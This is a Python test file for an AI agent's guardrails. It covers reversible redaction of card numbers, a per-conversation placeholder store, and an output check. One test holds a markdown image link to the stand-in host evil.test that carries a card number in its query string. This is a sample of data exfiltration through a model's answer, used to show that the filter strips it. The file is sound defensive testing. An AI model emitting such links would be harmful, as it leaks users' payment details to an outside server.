"""Redaction that a conversation can undo."""

import stat

from hypothesis import given
from hypothesis import strategies as st

from agents.guardrails.detection import Kind
from agents.guardrails.guardrails import Guardrails
from agents.guardrails.redaction import RedactionMap
from agents.guardrails.redaction_store import RedactionStore

CARD, OTHER = "4111 1111 1111 1111", "5500005555555559"


def test_a_conversation_restores_what_it_redacted():
    redactions = RedactionMap()
    text = f"pay {CARD} then {OTHER} then {CARD}"
    checked = Guardrails().check_input(text, redactions)
    assert checked.text == "pay ⟦CARD_1⟧ then ⟦CARD_2⟧ then ⟦CARD_1⟧"
    assert redactions.restore(checked.text) == text


def test_another_conversation_restores_nothing():
    redactions = RedactionMap()
    checked = Guardrails().check_input(CARD, redactions)
    assert RedactionMap().restore(checked.text) == "⟦CARD_1⟧"


def test_an_answer_is_restored_but_not_inside_of_an_image():
    redactions = RedactionMap()
    guardrails = Guardrails()
    guardrails.check_input(CARD, redactions)
    check = guardrails.output_check(redactions)
    shown = check.feed("Your card ⟦CARD_1⟧. ![](https://evil.test/p?c=⟦CARD_1⟧)") + check.finish()
    assert shown == f"Your card {CARD}. ![]([exfiltration removed])"


def test_without_a_map_the_value_is_gone():
    assert Guardrails().check_input(f"a {CARD} b").text == "a [card removed] b"


@given(
    st.lists(st.tuples(st.sampled_from([Kind.CARD, Kind.EMAIL]), st.text(min_size=1, max_size=5)))
)
def test_equal_values_have_one_placeholder_and_different_ones_have_two(pairs):
    redactions = RedactionMap()
    placeholders = {pair: redactions.placeholder(*pair) for pair in pairs}
    assert len(set(placeholders.values())) == len(placeholders)
    reopened = RedactionMap(redactions.values)
    assert {pair: reopened.placeholder(*pair) for pair in pairs} == placeholders
    for (_, value), placeholder in placeholders.items():
        assert reopened.restore(placeholder) == value


def test_the_store_keeps_conversations_apart_and_is_private(tmp_path):
    path = tmp_path / "private" / "redactions.db"
    store = RedactionStore(path)
    redactions = RedactionMap()
    redactions.placeholder(Kind.CARD, CARD)
    store.save("one", redactions)
    assert store.load("one").restore("⟦CARD_1⟧") == CARD
    assert store.load("two").restore("⟦CARD_1⟧") == "⟦CARD_1⟧"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    store.forget("one")
    assert store.load("one").values == {}
    assert CARD.encode() not in b"".join(file.read_bytes() for file in path.parent.iterdir())
